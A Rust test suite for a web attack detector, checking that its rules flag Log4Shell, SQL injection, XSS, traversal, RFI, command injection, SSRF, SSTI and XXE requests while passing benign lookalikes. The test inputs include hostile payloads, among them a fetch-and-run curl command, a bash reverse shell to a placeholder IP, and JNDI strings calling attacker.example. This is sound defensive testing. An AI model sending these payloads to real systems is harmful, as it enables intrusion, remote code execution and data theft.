use std::sync::LazyLock;

use super::*;
use crate::http::{ParseLimits, Parsed, parse_request};

static D: LazyLock<Detector> =
    LazyLock::new(|| Detector::builtin().expect("builtin rules compile"));

fn parse(raw: &str) -> Request {
    match parse_request(raw.as_bytes(), &ParseLimits::default()) {
        Parsed::Complete { request, .. } => request,
        other => panic!("not a request: {other:?}"),
    }
}

fn get(target: &str) -> Request {
    parse(&format!(
        "GET {target} HTTP/1.1\r\nHost: example.test\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0\r\n\r\n"
    ))
}

fn header(name: &str, value: &str) -> Request {
    parse(&format!(
        "GET / HTTP/1.1\r\nHost: example.test\r\n{name}: {value}\r\n\r\n"
    ))
}

fn post(content_type: &str, body: &str) -> Request {
    parse(&format!(
        "POST /submit HTTP/1.1\r\nHost: example.test\r\nContent-Type: {content_type}\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    ))
}

fn rules(req: &Request) -> Vec<String> {
    D.inspect(req).into_iter().map(|d| d.rule_id).collect()
}

/// Every request fires at least one rule of `category`.
fn assert_category(category: &str, reqs: &[Request]) {
    for r in reqs {
        let ds = D.inspect(r);
        assert!(
            ds.iter().any(|d| d.category == category),
            "expected a {category} detection for {} {:?} {:?}, got {ds:?}",
            r.target,
            r.headers,
            String::from_utf8_lossy(&r.body)
        );
    }
}

/// No rule fires on any of these requests.
fn assert_clean(reqs: &[Request]) {
    for r in reqs {
        let ds = D.inspect(r);
        assert!(
            ds.is_empty(),
            "false positive on {} {:?} {:?}: {ds:?}",
            r.target,
            r.headers,
            String::from_utf8_lossy(&r.body)
        );
    }
}

#[test]
fn builtin_rules_load_and_self_test() {
    assert!(D.rule_count() > 40, "{}", D.rule_count());
    let failures = D.self_test();
    assert!(
        failures.is_empty(),
        "rule examples failed:\n{}",
        failures.join("\n")
    );
}

#[test]
fn log4shell_and_obfuscations() {
    assert_category(
        "java",
        &[
            header("User-Agent", "${jndi:ldap://attacker.example/a}"),
            header("X-Api-Version", "${${lower:j}${lower:n}di:ldap://x/a}"),
            header(
                "Referer",
                "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}",
            ),
            get("/?q=%24%7B%24%7Benv%3AX%3A-j%7Dndi%3Admp%3A%2F%2Fx%7D"),
            post(
                "application/json",
                r#"{"name":"${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x/a}"}"#,
            ),
            header("Cookie", "a=${jndi:rmi://203.0.113.1/x}"),
        ],
    );
    let d = D.inspect(&header("User-Agent", "${jndi:ldap://attacker.example/a}"));
    assert_eq!(d[0].rule_id, "java.log4shell.jndi");
    assert_eq!(d[0].severity, Severity::Critical);
    assert_eq!(d[0].location, "header:user-agent");
    assert_eq!(d[0].mitre, vec!["T1190", "T1203"]);
    assert_clean(&[
        get("/greeting?tpl=Hello+%24%7Bname%7D"),
        post(
            "application/json",
            r#"{"template":"Total: ${amount} for ${user.name}"}"#,
        ),
    ]);
}

#[test]
fn spring4shell_shellshock_ognl_deserialization() {
    assert_category(
        "java",
        &[
            post(
                "application/x-www-form-urlencoded",
                "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di",
            ),
            header(
                "Content-Type",
                "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
            ),
            header(
                "Cookie",
                "rememberMe=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC",
            ),
            post(
                "application/json",
                r#"{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x/a"}"#,
            ),
        ],
    );
    assert_category(
        "rce",
        &[header("User-Agent", "() { :; }; /bin/bash -c 'id'")],
    );
    let d = D.inspect(&header("User-Agent", "() { :; }; echo; /bin/id"));
    assert!(
        d.iter()
            .any(|d| d.rule_id == "rce.shellshock" && d.severity == Severity::Critical)
    );
}

#[test]
fn sqli_variants_and_lookalikes() {
    assert_category(
        "sqli",
        &[
            get("/item?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--"),
            get("/item?id=1/**/UnIoN/**/SeLeCt/**/1,2,3"),
            get("/item?id=1'/*!50000union*//*!50000select*/1,@@version"),
            get("/login?user=admin%27--"),
            get("/login?user=%27+or+1%3D1--"),
            get("/item?id=1%20AND%20SLEEP(5)"),
            get("/item?id=1;WAITFOR%20DELAY%20'0:0:5'--"),
            get("/item?id=1;%20DROP%20TABLE%20users"),
            get("/item?id=1%20and%20extractvalue(1,concat(0x7e,version()))"),
            get("/item?id=%2527%2520or%25201%253D1--"),
            header("X-Forwarded-For", "1' or '1'='1"),
            header("Cookie", "session=x' or 1=1-- -"),
            post("application/json", r#"{"q":"' OR 'a'='a"}"#),
        ],
    );
    assert_clean(&[
        get("/search?q=select+union+members"),
        get("/search?q=union+select+committee+minutes"),
        get("/people?name=O%27Brien&city=Dun+Laoghaire"),
        get("/search?q=what+does+sleep(1)+do"),
        post(
            "application/x-www-form-urlencoded",
            "body=She+said+%22it%27s+fine%22+--+it+was+not+fine.",
        ),
        get("/products?sort=price&order=asc&category=tools+%26+hardware"),
    ]);
}

#[test]
fn xss_variants_and_lookalikes() {
    assert_category(
        "xss",
        &[
            get("/q?s=%3Cscript%3Ealert(1)%3C/script%3E"),
            get("/q?s=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
            get("/q?s=%3Csvg/onload=alert(1)%3E"),
            get("/q?s=%22%3E%3Cscript%3E"),
            get("/q?s=javascript:alert(document.cookie)"),
            get("/q?s=%26lt%3Bscript%26gt%3Balert(1)%26lt%3B/script%26gt%3B"),
            get("/q?s=%5Cx3cscript%5Cx3ealert(1)%5Cx3c/script%5Cx3e"),
            header("Referer", "https://x.example/?<script>alert(1)</script>"),
            post(
                "application/json",
                r#"{"comment":"<iframe src=\"javascript:alert(1)\"></iframe>"}"#,
            ),
        ],
    );
    assert_clean(&[
        get("/search?q=how+to+use+%3Cscript%3E+tags+in+html"),
        post(
            "application/json",
            r#"{"content_html":"<p>See <a href=\"https://example.test/docs\">the docs</a> and <img src=\"/cat.png\" alt=\"cat\"> <b>bold</b></p>"}"#,
        ),
        get("/search?q=learn+javascript%3A+the+basics"),
    ]);
}

#[test]
fn traversal_lfi_rfi() {
    assert_category(
        "lfi",
        &[
            get("/download?file=..%2f..%2f..%2fetc%2fpasswd"),
            get("/download?file=%252e%252e%252f%252e%252e%252fetc%252fshadow"),
            get("/static/..%c0%af..%c0%afwindows/win.ini"),
            get("/view?page=....//....//....//etc/hosts"),
            get("/img/..%5c..%5c..%5cboot.ini"),
            get("/files/..%25u2215..%25u2215etc/passwd"),
            get("/read?f=/proc/self/environ"),
            header("Cookie", "template=../../../../etc/passwd%00"),
        ],
    );
    assert_category(
        "rfi",
        &[
            get("/index.php?page=http://attacker.example/shell.txt?"),
            get("/modules/x.php?mosConfig_absolute_path=http://198.51.100.7/c99.txt"),
        ],
    );
    assert_clean(&[
        get("/files/report..final.pdf"),
        get("/oauth/authorize?redirect_uri=https%3A%2F%2Fapp.example.test%2Fcallback&state=x"),
        get("/search?q=win.ini+file+explained"),
        get("/download?file=C:%5CUsers%5CPublic%5CDocuments%5Cinvoice.pdf"),
        get("/login?next=https%3A%2F%2Fexample.test%2Faccount"),
    ]);
}

#[test]
fn command_injection_php_ssrf() {
    assert_category(
        "rce",
        &[
            get("/ping?host=127.0.0.1%3Bcat%20/etc/passwd"),
            get("/ping?host=%7C%20id"),
            get("/ping?host=%24(whoami)"),
            get("/ping?host=%0aid%0a"),
            get("/ping?host=x%26%26curl%20http://203.0.113.5/s.sh%7Csh"),
            get("/ping?host=cat${IFS}/etc/passwd"),
            post(
                "application/x-www-form-urlencoded",
                "cmd=bash+-i+%3E%26+%2Fdev%2Ftcp%2F203.0.113.5%2F4444+0%3E%261",
            ),
        ],
    );
    assert_category(
        "php",
        &[
            get("/index.php?page=php://filter/convert.base64-encode/resource=index.php"),
            get("/index.php?page=expect://id"),
            header("Cookie", "data=O:8:\"stdClass\":1:{s:1:\"a\";i:1;}"),
            post(
                "application/x-www-form-urlencoded",
                "x=%3C%3Fphp+system(%24_GET%5B%27c%27%5D)%3B+%3F%3E",
            ),
        ],
    );
    assert_category(
        "ssrf",
        &[
            get("/fetch?url=http://169.254.169.254/latest/meta-data/"),
            get("/fetch?url=http://[fd00:ec2::254]/latest/meta-data/"),
            get("/fetch?url=http://metadata.google.internal/computeMetadata/v1/"),
            get("/fetch?url=http://127.0.0.1:6379/"),
            get("/fetch?url=gopher://127.0.0.1:25/_HELO"),
        ],
    );
    let d = D.inspect(&get("/fetch?url=http://169.254.169.254/latest/meta-data/"));
    assert!(d.iter().any(|d| d.rule_id == "ssrf.cloud_metadata"
        && d.severity == Severity::Critical
        && d.location == "query:url"));
    assert_clean(&[
        post(
            "application/x-www-form-urlencoded",
            "body=Salt+%26+pepper%3B+cat+lovers+welcome&author=Tom",
        ),
        post(
            "application/json",
            r#"{"body":"You can test locally with curl http://localhost:8080/health"}"#,
        ),
        post(
            "application/json",
            r#"{"body":"I'd say it's 50/50 whether it opens"}"#,
        ),
    ]);
}

#[test]
fn ssti_xxe() {
    assert_category(
        "ssti",
        &[
            get("/greet?name=%7B%7B7*7%7D%7D"),
            get("/greet?name=%7B%7B%27%27.__class__.__mro__%5B1%5D.__subclasses__()%7D%7D"),
            get("/greet?name=%24%7B%22freemarker.template.utility.Execute%22%3Fnew()(%22id%22)%7D"),
            post(
                "application/x-www-form-urlencoded",
                "t=%3C%25%3D+7*7+%25%3E",
            ),
        ],
    );
    assert_category(
        "xxe",
        &[post(
            "application/xml",
            r#"<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#,
        )],
    );
    assert_clean(&[
        post(
            "application/xml",
            r#"<?xml version="1.0"?><order><id>1</id></order>"#,
        ),
        post(
            "application/json",
            r#"{"query":"query { user(id: \"5\") { name email orders(first: 10) { edges { node { id } } } } }"}"#,
        ),
        get("/greet?name=Hello+%7B%7B+name+%7D%7D"),
    ]);
}

#[test]
fn scanners_are_never_critical() {
    for ua in [
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)",
        "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    ] {
        let d = D.inspect(&header("User-Agent", ua));
        assert!(!d.is_empty(), "{ua}");
        assert!(
            d.iter()
                .all(|d| d.category == "scanner" && d.severity < Severity::Critical)
        );
    }
    assert_clean(&[
        header(
            "User-Agent",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
        ),
        header(
            "User-Agent",
            "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119",
        ),
        header(
            "User-Agent",
            "Googlebot/2.1 (+http://www.google.com/bot.html)",
        ),
    ]);
}

#[test]
fn benign_tokens_and_blobs() {
    assert_clean(&[
        header(
            "Authorization",
            "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
        ),
        header(
            "Cookie",
            "blob=SGVsbG8gV29ybGQhIFRoaXMgaXMgYSBiYXNlNjQgYmxvYi4=; theme=dark",
        ),
        post(
            "application/json",
            r#"{"order":{"id":17,"items":[{"sku":"A-1","qty":2}],"note":"Leave at door; ring twice & wait"}}"#,
        ),
        post(
            "multipart/form-data; boundary=XyZ",
            "--XyZ\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"me.png\"\r\nContent-Type: image/png\r\n\r\n\u{1}PNG data\r\n--XyZ--\r\n",
        ),
    ]);
}

#[test]
fn one_detection_per_rule_evidence_bounded_and_sorted() {
    let long = "%3Cscript%3Ealert(1)%3C/script%3E".repeat(50);
    let r = get(&format!("/a?x={long}&y={long}&z=%27%20or%201=1--"));
    let d = D.inspect(&r);
    let mut ids: Vec<_> = d.iter().map(|d| d.rule_id.clone()).collect();
    let n = ids.len();
    ids.sort();
    ids.dedup();
    assert_eq!(ids.len(), n, "a rule fired twice: {d:?}");
    assert!(
        d.iter()
            .all(|d| d.evidence.len() <= palisade_wire::MAX_EVIDENCE_BYTES)
    );
    assert!(d.windows(2).all(|w| w[0].severity >= w[1].severity));
    assert!(rules(&r).contains(&"xss.script_tag".to_owned()));
}

#[test]
fn multipart_and_locations() {
    let body = "--B\r\nContent-Disposition: form-data; name=\"file\"; filename=\"../../../etc/passwd\"\r\n\r\nx\r\n--B\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\n<script>alert(1)</script>\r\n--B--\r\n";
    let d = D.inspect(&post("multipart/form-data; boundary=B", body));
    assert!(
        d.iter()
            .any(|d| d.category == "lfi" && d.location == "body:file"),
        "{d:?}"
    );
    assert!(
        d.iter()
            .any(|d| d.category == "xss" && d.location == "body:note"),
        "{d:?}"
    );
    let d = D.inspect(&get("/x?id=1%27%20union%20select%201,2--"));
    assert!(d.iter().any(|d| d.location == "query:id"), "{d:?}");
    let d = D.inspect(&header("Cookie", "a=1; pref=%3Csvg%20onload%3Dalert(1)%3E"));
    assert!(d.iter().any(|d| d.location == "cookie:pref"), "{d:?}");
}

#[test]
fn from_parts_requests_from_logs() {
    let r = Request::from_parts(
        "GET",
        "/cgi-bin/x?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D",
        vec![("User-Agent".into(), "curl/8".into())],
        Vec::new(),
    );
    assert!(rules(&r).contains(&"java.log4shell.jndi".to_owned()));
}

#[test]
fn bad_rule_files_give_clear_errors() {
    let dir = tempfile::tempdir().expect("tempdir");
    let write = |name: &str, text: &str| {
        std::fs::write(dir.path().join(name), text).expect("write");
    };
    // Empty directory.
    let err = Detector::from_dir(dir.path()).expect_err("no rules");
    assert!(matches!(err, DetectError::NoRules(_)), "{err}");

    write(
        "a.yaml",
        "rules:\n  - id: t.one\n    category: sqli\n    severity: high\n    patterns:\n      - regex: 'a('\n        prefilter: [a]\n",
    );
    let err = Detector::from_dir(dir.path())
        .expect_err("bad regex")
        .to_string();
    assert!(
        err.contains("a.yaml") && err.contains("t.one") && err.contains("regex"),
        "{err}"
    );

    write(
        "a.yaml",
        "rules:\n  - id: t.one\n    category: sqli\n    severity: high\n    patterns:\n      - regex: 'ab'\n",
    );
    let err = Detector::from_dir(dir.path())
        .expect_err("no prefilter")
        .to_string();
    assert!(err.contains("prefilter"), "{err}");

    write(
        "a.yaml",
        "rules:\n  - id: t.one\n    category: sqli\n    severity: severe\n    patterns:\n      - literal: x\n",
    );
    let err = Detector::from_dir(dir.path())
        .expect_err("bad severity")
        .to_string();
    assert!(err.contains("a.yaml"), "{err}");

    write(
        "a.yaml",
        "rules:\n  - id: t.one\n    category: sqli\n    severity: high\n    locations: [qurey]\n    patterns:\n      - literal: x\n",
    );
    let err = Detector::from_dir(dir.path())
        .expect_err("bad location")
        .to_string();
    assert!(err.contains("qurey"), "{err}");

    write(
        "a.yaml",
        "rules:\n  - id: t.one\n    category: sqli\n    severity: high\n    typo: 1\n    patterns:\n      - literal: x\n",
    );
    let err = Detector::from_dir(dir.path())
        .expect_err("unknown field")
        .to_string();
    assert!(err.contains("typo"), "{err}");

    write(
        "a.yaml",
        "rules:\n  - id: t.one\n    category: sqli\n    severity: high\n    mitre: [T1190]\n    patterns:\n      - literal: EvilToken\n",
    );
    write(
        "b.yml",
        "rules:\n  - id: t.one\n    category: xss\n    severity: low\n    patterns:\n      - literal: y\n",
    );
    let err = Detector::from_dir(dir.path())
        .expect_err("duplicate")
        .to_string();
    assert!(err.contains("already defined"), "{err}");

    // A valid custom rule set works end to end; literals are case-insensitive.
    std::fs::remove_file(dir.path().join("b.yml")).expect("rm");
    let d = Detector::from_dir(dir.path()).expect("valid");
    assert_eq!(d.rule_count(), 1);
    let hits = d.inspect(&get("/x?a=EVILTOKEN"));
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].rule_id, "t.one");
    assert_eq!(hits[0].location, "query:a");
}

#[test]
fn detector_is_send_sync() {
    fn check<T: Send + Sync>() {}
    check::<Detector>();
}

/// The texts the detector scans for one raw field value: the normalized text, and its variants
/// with SQL comments stripped and Log4j lookups resolved (when those differ).
fn scanned_variants(raw: &str, flavor: Flavor) -> Vec<String> {
    let mut text = String::new();
    decode::normalize(raw.as_bytes(), flavor, &mut text);
    let mut variant = String::new();
    let mut out = vec![text.clone()];
    if decode::strip_sql_comments(&text, &mut variant) {
        out.push(variant.clone());
    }
    if decode::resolve_lookups(&text, &mut variant) && variant != text {
        out.push(variant);
    }
    out
}

/// A regex runs only when one of its prefilter literals occurs in the text, so a text it
/// matches without any of them is silently missed. Every rule example is checked against every
/// regex of its rule, in each text the detector scans.
#[test]
fn prefilter_literals_cover_every_example_match() {
    // Patterns whose literals gate a `^` alternative on purpose: `rce.command_chain` pattern 0
    // takes a command at the start of a value only when a shell separator occurs too (a bare
    // `id` or `set` value is not an attack); pattern 1 covers values that start with a command
    // reading a file or fetching a URL.
    const GATED: &[(&str, usize)] = &[("rce.command_chain", 0)];
    let mut failures = Vec::new();
    for (file, yaml) in BUILTIN_RULES {
        let parsed = parse_file(file, yaml).expect("builtin rule file parses");
        for spec in parsed.rules {
            let locs = LocSet::parse(&spec.locations).expect("builtin locations parse");
            let flavor = match locs.first_kind().0 {
                Kind::Path => Flavor::Path,
                Kind::Query | Kind::Cookie => Flavor::Form,
                _ => Flavor::Plain,
            };
            for (i, pattern) in spec.patterns.iter().enumerate() {
                let Some(regex) = &pattern.regex else {
                    continue;
                };
                if GATED.contains(&(spec.id.as_str(), i)) {
                    continue;
                }
                let re = RegexBuilder::new(regex)
                    .case_insensitive(true)
                    .unicode(false)
                    .size_limit(REGEX_SIZE_LIMIT)
                    .build()
                    .expect("builtin regex compiles");
                let literals: Vec<String> =
                    pattern.prefilter.iter().map(|l| l.to_lowercase()).collect();
                for example in &spec.tests.matches {
                    for text in scanned_variants(example, flavor) {
                        if re.is_match(text.as_bytes())
                            && !literals.iter().any(|l| text.contains(l.as_str()))
                        {
                            failures.push(format!(
                                "{file}: {} pattern {i} matches {example:?} (scanned as \
                                 {text:?}) but none of its prefilter literals occurs",
                                spec.id
                            ));
                        }
                    }
                }
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn path_slash_runs_and_dot_segments_do_not_hide_a_probe() {
    for target in [
        "/.git/config",
        "/.git/./config",
        "//.git//config",
        "/.git/%2e/config",
        "/.git%2F%2Fconfig",
        "/app/.//.git/./config",
    ] {
        assert!(
            rules(&get(target)).contains(&"scanner.probe_path".to_owned()),
            "{target}: {:?}",
            rules(&get(target))
        );
    }
    // `..` is not resolved: traversal through doubled slashes and dot segments still shows.
    assert_category("lfi", &[get("/static/.//..//.//..//etc/passwd")]);
    // A URL inside the path keeps its `//`.
    assert!(
        rules(&get("/auth/phpbb_root_path=http://198.51.100.23/id.txt"))
            .contains(&"rfi.url_in_path".to_owned())
    );
    assert_clean(&[
        get("/blog//2024/./git-tips.html"),
        get("/docs/./guide//intro/"),
        get("/static/./app.js"),
    ]);
}

#[test]
fn clean_header_memory_is_exact() {
    // A fresh detector: the shared one's memory depends on the other tests.
    let d = Detector::builtin().expect("builtin rules compile");
    let ids =
        |r: &Request| -> Vec<String> { d.inspect(r).into_iter().map(|x| x.rule_id).collect() };
    let ua = "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0";
    let benign = parse(&format!(
        "GET /a HTTP/1.1\r\nHost: example.test\r\nUser-Agent: {ua}\r\nX-Note: 1 union select 2\r\n\r\n"
    ));
    // The note fires sqli.union; the UA is remembered clean, the note is not.
    assert!(ids(&benign).contains(&"sqli.union".to_string()));
    assert!(
        ids(&benign).contains(&"sqli.union".to_string()),
        "same request, same verdict"
    );
    // The remembered UA does not hide a malicious value under the same name.
    let evil = parse(
        "GET /a HTTP/1.1\r\nHost: example.test\r\nUser-Agent: ${jndi:ldap://x.example/a}\r\n\r\n",
    );
    assert!(ids(&evil).contains(&"java.log4shell.jndi".to_string()));

    // A field passed over because its rule already fired on an earlier field (the query) must
    // not be remembered as clean: alone, it still fires.
    let both = parse(
        "GET /q?id=1%20union%20select%202 HTTP/1.1\r\nHost: example.test\r\nX-Other: 3 union select 4\r\n\r\n",
    );
    let fired = d.inspect(&both);
    assert_eq!(
        fired.iter().filter(|x| x.rule_id == "sqli.union").count(),
        1,
        "a rule fires once per request: {fired:?}"
    );
    let header_only =
        parse("GET /q HTTP/1.1\r\nHost: example.test\r\nX-Other: 3 union select 4\r\n\r\n");
    assert!(ids(&header_only).contains(&"sqli.union".to_string()));
}
